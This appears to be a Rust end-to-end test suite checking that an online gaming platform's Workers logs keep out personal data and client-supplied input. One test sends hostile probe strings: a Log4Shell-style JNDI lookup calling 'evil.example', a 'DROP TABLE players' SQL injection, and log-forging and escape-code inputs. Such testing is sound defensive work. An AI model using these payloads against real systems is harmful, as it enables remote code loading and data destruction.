//! What the Workers write of a request: enough to find it, nothing about a person, and nothing that a client chose.

use igaming_e2e::{Client, PASSWORD, Player, Wallet, lines_of, log_lines, unique_email};
use serde_json::{Value, json};

/// Of a line; nothing else may stand in one.
const FIELDS: [&str; 12] = [
    "level",
    "worker",
    "request_id",
    "method",
    "route",
    "status",
    "duration_ms",
    "tenant_id",
    "country",
    "colo",
    "code",
    "fault",
];

/// The platform ends a request at 32 invocations of Workers; half of them is room for what comes.
const INVOCATIONS_MAX: usize = 16;

#[test]
fn a_line_tells_what_was_asked_and_not_by_whom() {
    let player = Player::register(&Client::demo());
    let place = json!({ "country": "BR", "colo": "GRU" }).to_string();
    let answer = player.get("/api/wallet/history?limit=5").header("x-local-cf", place).send();
    answer.expect(200);
    let lines = lines_of(answer.request_id());
    let entry = lines.iter().find(|line| line["worker"] == "igaming-apex").expect("the entry's line");
    for (field, value) in [
        ("route", json!("/api/wallet/history")),
        ("status", json!(200)),
        ("method", json!("GET")),
        ("tenant_id", json!("demo")),
        ("country", json!("BR")),
        ("colo", json!("GRU")),
    ] {
        assert_eq!(entry[field], value, "{entry}");
    }
    for line in &lines {
        let fields = line.as_object().expect("an object");
        assert!(fields.keys().all(|field| FIELDS.contains(&field.as_str())), "{line}");
        assert!(!line.to_string().contains(&player.player_id), "{line}");
    }
}

#[test]
fn nothing_a_client_sends_reaches_the_log() {
    let client = Client::demo();
    let email = unique_email();
    let secret = "s3cr3t-b3tw33n-us";
    let forged = r#"","level":"forged","x":""#;
    let probes = [
        forged.to_owned(),
        "'; DROP TABLE players; --".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "%0a{\"level\":\"forged\"}".to_owned(),
        "\u{1b}[31mforged".to_owned(),
        secret.to_owned(),
    ];
    let mut ids = Vec::new();
    for probe in &probes {
        let path = |text: &str| {
            let encode = |byte: u8| format!("%{byte:02x}");
            text.bytes().map(encode).collect::<String>().replace("%2f", "_").replace("%25", "_")
        };
        // What no header could carry has no way in.
        let header: String = probe.chars().filter(|c| !c.is_control()).collect();
        let body = json!({ "email": email, "password": probe });
        for call in [
            client.get(&format!("/api/auth/{}", path(probe).replace("%1b", ""))),
            client.get(&format!("/api/wallet/history?limit={}", path(probe))),
            client.get("/api/auth/me").header("user-agent", &header),
            client.get("/api/auth/me").header("origin", &header),
            client.get("/api/auth/me").header("authorization", format!("Bearer {header}")),
            client.get("/api/auth/me").header("idempotency-key", &header),
            client.get("/api/auth/me").header("x-request-id", &header),
            client.get("/api/auth/me").header("x-forwarded-for", &header),
            client.get("/api/auth/me").header("referer", &header),
            client.post("/api/auth/login", &body),
        ] {
            ids.push(call.send().request_id().to_owned());
        }
    }
    let player = Player::register(&client);
    let login = json!({ "email": player.email, "password": PASSWORD });
    ids.push(client.post("/api/auth/login", &login).send().request_id().to_owned());
    for id in &ids {
        lines_of(id);
    }
    for line in log_lines() {
        let parsed: Value = serde_json::from_str(&line).unwrap_or(Value::Null);
        assert_ne!(parsed["level"], "forged", "{line}");
        for text in [
            secret,
            "DROP TABLE",
            "jndi",
            email.as_str(),
            &player.email,
            PASSWORD,
            &player.token,
            "127.0.0.1",
        ] {
            assert!(!line.contains(text), "{text} in {line}");
        }
        assert!(!line.contains('\u{1b}'), "{line:?}");
    }
}

/// Each Worker and each object that serves a request writes one line of it.
#[test]
fn the_longest_chains_stay_far_below_the_platforms_end() {
    let player = Player::register(&Client::demo());
    let receiver = Player::register(&Client::demo());
    let transfer = json!({ "to_player_id": receiver.player_id, "amount_minor": 100, "currency": "BRL" });
    Wallet::of(&player).deposit("chain", "BRL", 1_000);
    let register = json!({ "email": unique_email(), "password": PASSWORD });
    let mut longest = 0;
    for (call, status) in [
        (player.client.post("/api/auth/register", &register), 201),
        (player.start_call(100, 3), 200),
        (player.post("/api/wallet/transfer", &transfer).key("chain"), 200),
        (player.get("/api/wallet/history"), 200),
        (player.get("/api/wallet/balances"), 200),
        (player.get("/api/games/crash/state"), 200),
    ] {
        let answer = call.send();
        assert_eq!(answer.status(), status, "{answer:?}");
        let invocations = lines_of(answer.request_id()).len();
        println!("{} invocations: {answer:?}", invocations);
        longest = longest.max(invocations);
        assert!(invocations <= INVOCATIONS_MAX, "{answer:?}: {invocations} invocations");
    }
    assert!(longest >= 3, "a bet passes entry, games and wallet, so this did not count: {longest}");
}
